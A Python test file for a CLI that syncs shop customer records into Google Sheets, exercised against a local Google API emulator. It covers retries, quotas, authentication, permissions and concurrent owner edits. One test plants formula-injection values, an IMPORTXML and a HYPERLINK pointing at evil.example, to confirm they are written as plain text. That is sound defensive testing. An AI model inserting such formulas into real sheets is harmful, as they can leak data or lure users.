"""crmsheets on a Google Sheet: the real gspread and google-auth against the loopback
emulator (tests/google_emulator.py), signed in with a service-account key made here."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from conftest import FIXTURES, run_cli
from google_emulator import ApiError, Fault, _plain
from test_contract import BOOKS, _trim

from crmsheets.backends import gsheet
from crmsheets.backends.excel import ExcelBook
from crmsheets.backends.gsheet import GoogleSheet
from crmsheets.backends.memory import MemoryBook
from crmsheets.normalize import as_stored, text_of
from crmsheets.sample import sample_book
from crmsheets.sync import sync

AS_OF = dt.date(2025, 6, 1)


def excel_tabs(name: str) -> tuple[dict[str, list[list]], dict]:
    """A fixture book's tabs as plain grids (error cells as Sheets shows them)."""
    book = ExcelBook(FIXTURES / name).read()
    out, merges = {}, {}
    for tab_name, tab in book.tabs.items():
        rows = [list(r) for r in tab.rows]
        for (r, c), err in tab.errors.items():
            rows[r - 1][c - 1] = err
        out[tab_name] = rows
        merges[tab_name] = tab.merged
    return out, merges


def sample_tabs(customers: int = 300) -> dict[str, list[list]]:
    return {t.name: [list(t.headers)] + [list(r) for r in t.rows]
            for t in sample_book(AS_OF, customers=customers)}


def upload(google, tabs: dict, merges: dict | None = None, **kw) -> str:
    url = google.upload(tabs, **kw)
    sheet = google.books[gsheet.sheet_key(url)]
    for name, ranges in (merges or {}).items():
        s = sheet.sheet(name)
        s.merges = [{"sheetId": s.sheet_id, "startRowIndex": r1 - 1, "endRowIndex": r2,
                     "startColumnIndex": c1 - 1, "endColumnIndex": c2}
                    for (r1, c1), (r2, c2) in ranges]
    return url


def grid(google, url: str, tab: str) -> list[list[str]]:
    return [[text_of(v) for v in row] for row in google.values(gsheet.sheet_key(url), tab)]


def calls(google, since: int = 0) -> list[str]:
    """The Sheets API calls made, as crmsheets' meter names them."""
    out = []
    for e in google.log[since:]:
        if not e.path.startswith("/v4/"):
            continue
        if e.path.endswith("values:batchGet"):
            out.append("values:batchGet")
        elif e.path.endswith("values:batchUpdate"):
            out.append("values:batchUpdate")
        elif e.path.endswith(":batchUpdate"):
            out.append("spreadsheets:batchUpdate")
        elif e.method == "GET" and "/values" not in e.path:
            out.append("spreadsheets.get")
        else:
            out.append(f"{e.method} {e.path}")
    return out


# ---- the contract: the same result as the reference backend -----------------------------

@pytest.mark.parametrize("name", [*BOOKS, "merged_header_cells.xlsx", "headers_only.xlsx"])
def test_google_sheet_and_memory_backends_agree(name, google):
    tabs, merges = excel_tabs(name)
    url = upload(google, tabs, merges)
    memory = MemoryBook(ExcelBook(FIXTURES / name).read())

    first = sync(GoogleSheet(url), AS_OF)
    reference = sync(memory, AS_OF)
    assert first.plan.lines() == reference.plan.lines()
    assert first.summary()["issues_by_code"] == reference.summary()["issues_by_code"]

    key = gsheet.sheet_key(url)
    assert [s.title for s in google.books[key].sheets] == memory.book.names
    for tab, want in memory.book.tabs.items():
        expected = _trim([[as_stored(v, True) for v in row] for row in want.rows])
        for (r, c), err in want.errors.items():  # errors stay where the owner had them
            expected[r - 1][c - 1] = err
        assert _trim(grid(google, url, tab)) == expected, f"tab {tab} differs"

    # Idempotent: the second sync reads (two calls) and writes nothing.
    since = len(google.log)
    assert sync(GoogleSheet(url), AS_OF).plan.empty
    assert calls(google, since) == ["spreadsheets.get", "values:batchGet"]


@pytest.mark.parametrize("name", ["empty_book.xlsx", "missing_contacts_tab.xlsx",
                                  "missing_name_column.xlsx"])
def test_bad_books_stop_with_the_same_message_on_google(name, google):
    from crmsheets.errors import CrmError

    tabs, _ = excel_tabs(name)
    url = upload(google, tabs)
    with pytest.raises(CrmError) as on_google:
        sync(GoogleSheet(url), AS_OF)
    with pytest.raises(CrmError) as in_memory:
        sync(MemoryBook(ExcelBook(FIXTURES / name).read()), AS_OF)
    assert str(on_google.value) == str(in_memory.value)
    assert not [c for c in calls(google) if "Update" in c]


def test_a_sync_makes_the_same_few_calls_whatever_the_size(google):
    made = []
    for customers in (60, 600):
        url = upload(google, sample_tabs(customers))
        since = len(google.log)
        result = sync(GoogleSheet(url), AS_OF)
        assert result.written
        made.append(calls(google, since))
    assert made[0] == made[1] == ["spreadsheets.get", "values:batchGet", "values:batchGet",
                                  "spreadsheets:batchUpdate", "values:batchUpdate"]
    writes = [e for e in google.log if e.path.endswith("values:batchUpdate")]
    assert all(e.body["valueInputOption"] == "RAW" for e in writes)


def test_formula_text_is_written_as_text_never_as_a_formula(google):
    tabs = sample_tabs(60)
    header = tabs["Contacts"][0]
    row = [""] * len(header)
    row[header.index("Name")] = '=IMPORTXML("http://evil.example/x", "//a")'
    row[header.index("Email")] = "=HYPERLINK(\"http://evil.example\",\"click\")"
    tabs["Contacts"].append(row)
    url = upload(google, tabs)
    sync(GoogleSheet(url), AS_OF)
    key = gsheet.sheet_key(url)
    for sheet in google.books[key].sheets:
        assert not sheet.formulas, f"a formula was written into {sheet.title}"
    issues = grid(google, url, "Issues")
    assert any('=HYPERLINK("http://evil.example","click")' in row for row in issues)


def test_dates_are_serial_numbers_with_a_date_format(google):
    url = upload(google, sample_tabs(60))
    sync(GoogleSheet(url), AS_OF)
    sheet = google.books[gsheet.sheet_key(url)].sheet("Follow-ups")
    due = sheet.cells[(2, 1)]
    assert isinstance(due, int) and 40000 < due < 50000
    assert sheet.formats[(2, 1)]["type"] == "DATE"


def test_large_writes_are_split_and_a_failure_between_parts_is_repaired(google,
                                                                        monkeypatch):
    monkeypatch.setattr(gsheet, "MAX_BODY", 20_000)
    monkeypatch.setenv("CRMSHEETS_GOOGLE_BACKOFF", "0.01")
    url = upload(google, sample_tabs(300))
    clean = upload(google, sample_tabs(300), title="Clean copy")
    sync(GoogleSheet(clean), AS_OF)

    # From the third values:batchUpdate part on, Google fails (and keeps failing
    # through every retry).
    fails = {"n": 0}

    def third_part_fails(method, path):
        if path.endswith("values:batchUpdate"):
            fails["n"] += 1
            if fails["n"] >= 3:
                raise ApiError(500, "Internal error", "INTERNAL")

    google.on_request = third_part_fails
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    google.on_request = None
    assert result.exit_code == 75
    assert "written in part" in result.output and "Run the sync again" in result.output
    assert "Traceback" not in result.output
    # The owner's cells are untouched even so.
    key = gsheet.sheet_key(url)
    contacts = google.values(key, "Contacts")
    def owner_part(rows):
        return [([_plain(v) for v in r] + [""] * 12)[:12] for r in rows]

    assert owner_part(contacts) == owner_part(_trim(sample_tabs(300)["Contacts"]))

    again = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert again.exit_code == 0, again.output
    for tab in ("Contacts", "Issues", "Follow-ups", "Loyalty", "Duplicates", "_crmsheets"):
        assert grid(google, url, tab) == grid(google, clean, tab), tab


# ---- faults ------------------------------------------------------------------------------

def test_a_storm_of_429s_and_500s_is_ridden_out(google, monkeypatch):
    monkeypatch.setenv("CRMSHEETS_GOOGLE_BACKOFF", "0.01")
    url = upload(google, sample_tabs(60))
    google.faults += [Fault("values:batchGet", status=429, times=3),
                      Fault("GET /v4/spreadsheets", status=500, times=2),
                      Fault("values:batchUpdate", status=503, times=2)]
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0, result.output
    assert "wrote:" in result.output
    assert google.faults == []


def test_quota_exhausted_stops_with_a_clear_message_and_bounded_tries(google, monkeypatch):
    monkeypatch.setenv("CRMSHEETS_GOOGLE_BACKOFF", "0.01")
    url = upload(google, sample_tabs(60))
    google.faults.append(Fault("values:batchGet", status=429, times=1000))
    result = run_cli("sync", url)
    assert result.exit_code == 75
    assert "quota" in result.output and "nothing was written" in result.output
    tries = [e for e in google.log if e.path.endswith("values:batchGet")]
    assert len(tries) == 6  # Policy.attempts, not for ever
    assert not [c for c in calls(google) if "Update" in c]


def test_a_structure_change_that_may_have_happened_is_not_sent_twice(google, monkeypatch):
    monkeypatch.setenv("CRMSHEETS_GOOGLE_BACKOFF", "0.01")
    url = upload(google, sample_tabs(60))
    google.faults.append(Fault(":batchUpdate", status=502, times=1))
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 75
    assert "may or may not" in result.output
    assert len([e for e in google.log if e.path.endswith(":batchUpdate")]) == 1
    assert run_cli("sync", url, "--as-of", AS_OF.isoformat()).exit_code == 0


def test_slow_answers_time_out_and_the_deadline_bounds_the_job(google, monkeypatch):
    import time

    monkeypatch.setenv("CRMSHEETS_GOOGLE_BACKOFF", "0.01")
    monkeypatch.setenv("CRMSHEETS_GOOGLE_TIMEOUT", "0.5")
    url = upload(google, sample_tabs(60))
    google.faults.append(Fault("GET /v4/spreadsheets", status=0, delay=2, times=1))
    result = run_cli("check", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code in (0, 1), result.output  # answered on the second try

    monkeypatch.setenv("CRMSHEETS_GOOGLE_DEADLINE", "2")
    google.faults.append(Fault("GET /v4/spreadsheets", status=0, delay=1.5, times=100))
    began = time.monotonic()
    result = run_cli("check", url)
    assert result.exit_code == 75
    assert "not answering" in result.output
    assert time.monotonic() - began < 6


def test_a_failing_token_refresh_is_one_line_without_secrets(google, service_key):
    info, _ = service_key
    url = upload(google, sample_tabs(60))
    google.faults.append(Fault("POST /token", status=400, times=10, body={
        "error": "invalid_grant", "error_description": "Invalid JWT Signature."}))
    result = run_cli("sync", url)
    assert result.exit_code == 3
    assert calls(google) == []  # no token, no call to the sheet
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "service-account key" in lines[0]
    assert info["private_key_id"] not in result.output
    assert "PRIVATE KEY" not in result.output


def test_an_owner_edit_during_the_sync_is_never_overwritten(google):
    url = upload(google, sample_tabs(60))
    assert run_cli("sync", url, "--as-of", "2025-05-01").exit_code == 0
    key = gsheet.sheet_key(url)
    seen = {"n": 0}

    def owner_types_while_we_compute(method, path):
        if path.endswith("values:batchGet"):
            seen["n"] += 1
            if seen["n"] == 2:  # after the read: as the check that precedes writing begins
                google.edit(key, "Follow-ups", 2, 9, "called, left a message")

    google.on_request = owner_types_while_we_compute
    since = len(google.log)
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    google.on_request = None
    assert result.exit_code == 75, result.output
    assert "changed while crmsheets was syncing" in result.output
    assert not [c for c in calls(google, since) if "Update" in c]
    assert google.values(key, "Follow-ups")[1][8] == "called, left a message"

    # Run again: the owner's note is kept (carried over by the task's key).
    assert run_cli("sync", url, "--as-of", AS_OF.isoformat()).exit_code == 0
    notes = [row for row in grid(google, url, "Follow-ups") if "called, left a message" in row]
    assert len(notes) == 1


# ---- access and sign-in ------------------------------------------------------------------

def test_a_sheet_not_shared_with_the_service_account_says_what_to_do(google):
    url = upload(google, sample_tabs(60), share=None)
    result = run_cli("sync", url)
    assert result.exit_code == 3
    assert result.output.strip() == (
        f"crmsheets: {google.email} cannot open the Google Sheet "
        f"gsheet:{gsheet.sheet_key(url)}. Open the sheet, click Share, and add "
        f"{google.email} as an Editor.")


def test_a_read_only_share_is_refused_before_anything_is_written(google):
    url = upload(google, sample_tabs(60), share="reader")
    result = run_cli("sync", url)
    assert result.exit_code == 3 and "as an Editor" in result.output


def test_no_credentials_anywhere(google, monkeypatch):
    monkeypatch.delenv("CRMSHEETS_CREDENTIALS")
    result = run_cli("check", "gsheet:1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789")
    assert result.exit_code == 3
    assert "No Google credentials found" in result.output and "--credentials" in result.output


def test_auth_says_who_and_whether_the_sheet_can_be_read(google):
    url = upload(google, sample_tabs(60), title="Tea shop")
    result = run_cli("auth", url)
    assert result.exit_code == 0, result.output
    assert f"can read the Google Sheet 'Tea shop' (gsheet:{gsheet.sheet_key(url)}) as " \
           f"{google.email}" in result.output
    # google-auth's after-refresh look-up reached the emulator too (background thread).
    import time

    for _ in range(50):
        if google.calls("GET /v1/projects/-/serviceAccounts/"):
            break
        time.sleep(0.05)
    assert google.calls("GET /v1/projects/-/serviceAccounts/")


def test_the_owner_s_own_google_account_via_a_saved_sign_in(google, tmp_path, monkeypatch):
    monkeypatch.delenv("CRMSHEETS_CREDENTIALS")
    refresh = google.add_user("owner@example.com", "client-123.apps.googleusercontent.com",
                              "client-secret-xyz")
    folder = tmp_path / "home" / ".config" / "gspread"
    folder.mkdir(parents=True)
    (folder / "authorized_user.json").write_text(json.dumps({
        "type": "authorized_user", "client_id": "client-123.apps.googleusercontent.com",
        "client_secret": "client-secret-xyz", "refresh_token": refresh,
        "token_uri": "https://oauth2.googleapis.com/token"}))
    url = upload(google, sample_tabs(60), share=None)  # the owner's own sheet
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0, result.output

    google.refresh_tokens.clear()  # revoked in the Google account's security page
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 3
    assert "crmsheets auth" in result.output and refresh not in result.output


def test_urls_and_ids(google):
    assert gsheet.sheet_key("https://docs.google.com/spreadsheets/d/1AbC_dEf-123456/edit#gid=0") \
        == "1AbC_dEf-123456"
    assert gsheet.sheet_key("gsheet:1AbC_dEf-123456") == "1AbC_dEf-123456"
    assert gsheet.sheet_key("https://docs.google.com/spreadsheets/u/1/d/1AbC_dEf-123456/edit"
                            "?usp=sharing") == "1AbC_dEf-123456"  # a second signed-in account
    result = run_cli("check", "https://example.com/not-a-sheet")
    assert result.exit_code == 3 and "is not a Google Sheet address" in result.output


# ---- init --------------------------------------------------------------------------------

def test_init_fills_an_empty_shared_sheet_and_refuses_one_with_data(google):
    url = upload(google, {"Sheet1": []})
    result = run_cli("init", url, "--sample", "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0, result.output
    key = gsheet.sheet_key(url)
    assert [s.title for s in google.books[key].sheets] == [
        "Sheet1", "Contacts", "Orders", "Interactions", "Settings"]
    assert grid(google, url, "Contacts")[0][:3] == ["Name", "Email", "Phone"]
    assert run_cli("sync", url, "--as-of", AS_OF.isoformat()).exit_code == 0

    again = run_cli("init", url)
    assert again.exit_code == 3 and "is not empty (tab Contacts has values)" in again.output


def test_a_service_account_cannot_create_a_sheet_and_is_told_what_to_do(google):
    result = run_cli("init", "gsheet:new")
    assert result.exit_code == 3
    assert result.output.strip() == (
        f"crmsheets: Google does not let {google.email} create spreadsheets (a service "
        f"account has no storage of its own). Create an empty sheet in your Google account, "
        f"share it with {google.email} as an Editor, then run: crmsheets init SHEET-URL")


def test_your_own_account_can_create_one(google, tmp_path, monkeypatch):
    monkeypatch.delenv("CRMSHEETS_CREDENTIALS")
    refresh = google.add_user("owner@example.com", "client-9", "secret-9")
    folder = tmp_path / "home" / ".config" / "gspread"
    folder.mkdir(parents=True)
    (folder / "authorized_user.json").write_text(json.dumps({
        "type": "authorized_user", "client_id": "client-9", "client_secret": "secret-9",
        "refresh_token": refresh, "token_uri": "https://oauth2.googleapis.com/token"}))
    result = run_cli("init", "gsheet:new")
    assert result.exit_code == 0, result.output
    made = [b for b in google.books.values() if b.owner == "owner@example.com"]
    assert len(made) == 1 and f"gsheet:{made[0].sid}" in result.output


def test_auth_signs_the_owner_in_through_the_browser_once(google, tmp_path, monkeypatch):
    """The installed-app flow of google-auth-oauthlib, for real: a local redirect server,
    the emulator as Google's consent page and token endpoint. The sign-in is saved
    (readable by its owner only) and the next sync uses it without a browser."""
    import threading
    import urllib.parse
    import webbrowser

    import requests

    monkeypatch.delenv("CRMSHEETS_CREDENTIALS")
    google.clients["client-42.apps.googleusercontent.com"] = "secret-42"
    folder = tmp_path / "home" / ".config" / "gspread"
    folder.mkdir(parents=True)
    (folder / "credentials.json").write_text(json.dumps({"installed": {
        "client_id": "client-42.apps.googleusercontent.com", "client_secret": "secret-42",
        "auth_uri": "https://accounts.google.com/o/oauth2/auth",
        "token_uri": "https://oauth2.googleapis.com/token",
        "redirect_uris": ["http://localhost"]}}))

    class Owner:
        """Clicks Allow on Google's consent page."""

        def open(self, url, new=0, autoraise=True):
            query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
            code = google.consent("owner@example.com", query["client_id"])
            back = f"{query['redirect_uri']}?" + urllib.parse.urlencode(
                {"state": query["state"], "code": code, "scope": query["scope"]})
            threading.Thread(target=requests.get, args=(back,), kwargs={"timeout": 10},
                             daemon=True).start()
            return True

    monkeypatch.setattr(webbrowser, "get", lambda *a, **k: Owner())
    url = upload(google, sample_tabs(60), share=None)
    google.books[gsheet.sheet_key(url)].owner = "owner@example.com"
    result = run_cli("auth", url)
    assert result.exit_code == 0, result.output
    assert "can read the Google Sheet 'Shop customers'" in result.output
    saved = folder / "authorized_user.json"
    assert saved.stat().st_mode & 0o077 == 0
    assert "secret-42" not in result.output and "refresh_token" not in result.output

    before = len(google.log)
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0, result.output
    assert [e.path for e in google.log[before:] if e.path == "/token"] == ["/token"]


def test_sheets_api_not_enabled_says_where_to_enable_it(google):
    url = upload(google, sample_tabs(60))
    google.faults.append(Fault("GET /v4/spreadsheets", status=403, body={"error": {
        "code": 403, "status": "PERMISSION_DENIED", "message": "Google Sheets API has not "
        "been used in project 123 before or it is disabled.", "details": [
            {"reason": "SERVICE_DISABLED"}]}}))
    result = run_cli("check", url)
    assert result.exit_code == 3
    assert "Google Sheets API is not enabled" in result.output


def test_the_emulator_refuses_calls_without_a_valid_token(google):
    import time
    import urllib.parse

    import requests
    from google.auth import crypt, jwt
    from google_emulator import service_account_key

    url = upload(google, sample_tabs(60))
    where = f"{google.url}/v4/spreadsheets/{gsheet.sheet_key(url)}"
    assert requests.get(where, timeout=10).status_code == 401
    assert requests.get(where, headers={"Authorization": "Bearer ya29.made-up"},
                        timeout=10).status_code == 401

    # A token asked for with a JWT signed by another key (same account name) is refused.
    other, _ = service_account_key(google.email, bits=1024)
    now = int(time.time())
    assertion = jwt.encode(crypt.RSASigner.from_service_account_info(other), {
        "iss": google.email, "aud": other["token_uri"], "iat": now, "exp": now + 600,
        "scope": "https://www.googleapis.com/auth/spreadsheets"}).decode()
    answer = requests.post(f"{google.url}/token", timeout=10, data=urllib.parse.urlencode({
        "grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer", "assertion": assertion}),
        headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 400 and "Invalid JWT Signature" in answer.text


def test_a_sync_that_only_changes_values_is_one_write_call(google):
    """The common daily sync: no new tab, column or row to format, so everything goes in
    one values:batchUpdate, which Google applies whole or not at all."""
    url = upload(google, sample_tabs(60))
    assert run_cli("sync", url, "--as-of", AS_OF.isoformat()).exit_code == 0
    key = gsheet.sheet_key(url)
    assert google.values(key, "Contacts")[22][2] == "12345"  # a phone-invalid issue
    google.edit(key, "Contacts", 23, 3, "020 7946 0555")  # the owner fixes it
    since = len(google.log)
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0 and "rewrite tab Issues" in result.output
    assert calls(google, since) == ["spreadsheets.get", "values:batchGet", "values:batchGet",
                                    "values:batchUpdate"]
    assert not any("12345" in row for row in grid(google, url, "Issues"))


def test_protected_owner_columns_are_fine_a_protected_sheet_is_explained(google):
    url = upload(google, sample_tabs(60))
    key = gsheet.sheet_key(url)
    google.protect(key, "Contacts", cols=(1, 12))  # the owner's own columns, A to L
    first = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert first.exit_code == 0, first.output

    other = upload(google, sample_tabs(60), title="Locked shop")
    google.protect(gsheet.sheet_key(other), "Contacts")  # the whole tab
    result = run_cli("sync", other, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 3
    assert result.output.strip() == (
        f"crmsheets: Cells crmsheets writes in the Google Sheet 'Locked shop' are protected, "
        f"and {google.email} may not edit them. In Google Sheets, Data > Protect sheets and "
        f"ranges: add {google.email} to the editors of that protection (or protect only your "
        f"own columns), then sync again.")
    # Refused whole: the structure call failed, so no tab was added and nothing written.
    assert [s.title for s in google.books[gsheet.sheet_key(other)].sheets] == [
        "Contacts", "Orders", "Interactions", "Settings"]


@pytest.mark.parametrize("column, changes_rows", [(12, False), (2, True)])
def test_edits_during_a_sync_stop_it_only_where_they_matter(google, column, changes_rows):
    """Column L (Notes) changing during the sync, like a =NOW() formula would, does not
    stop it; an email changing (the rows crmsheets writes to are told apart by name,
    email and CRM ID) does."""
    url = upload(google, sample_tabs(60))
    key = gsheet.sheet_key(url)
    seen = {"n": 0}

    def owner_types(method, path):
        if path.endswith("values:batchGet"):
            seen["n"] += 1
            if seen["n"] == 2:  # as the check before writing begins
                google.edit(key, "Contacts", 5, column, "typed while syncing")

    google.on_request = owner_types
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    google.on_request = None
    assert result.exit_code == (75 if changes_rows else 0), result.output
    assert google.values(key, "Contacts")[4][column - 1] == "typed while syncing"
    if not changes_rows:
        assert grid(google, url, "Contacts")[0][12] == "CRM ID"


def test_the_owner_s_other_tabs_are_not_downloaded(google):
    tabs = sample_tabs(60)
    tabs["Inventory"] = [["SKU", "Stock"]] + [[f"T-{i}", i] for i in range(500)]
    tabs["Kunden"] = tabs.pop("Contacts")  # named in Settings, not by a known alias
    tabs["Settings"].append(["Contacts tab", "Kunden"])
    url = upload(google, tabs)
    since = len(google.log)
    result = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert result.exit_code == 0, result.output
    asked = [r for e in google.log[since:] if e.path.endswith("values:batchGet")
             for r in e.query.get("ranges", [])]
    assert not any("Inventory" in r for r in asked)
    assert "'Kunden'" in asked  # fetched when Settings named it: one more call
    assert calls(google, since)[:3] == ["spreadsheets.get", "values:batchGet",
                                        "values:batchGet"]
    assert grid(google, url, "Kunden")[0][12] == "CRM ID"


def test_tab_names_with_quotes_and_emoji(google):
    tabs = sample_tabs(60)
    tabs["Bob's 🌵 customers"] = tabs.pop("Contacts")
    tabs["Settings"].append(["Contacts tab", "Bob's 🌵 customers"])
    url = upload(google, tabs)
    first = run_cli("sync", url, "--as-of", AS_OF.isoformat())
    assert first.exit_code == 0, first.output
    assert grid(google, url, "Bob's 🌵 customers")[0][12] == "CRM ID"
    assert sync(GoogleSheet(url), AS_OF).plan.empty
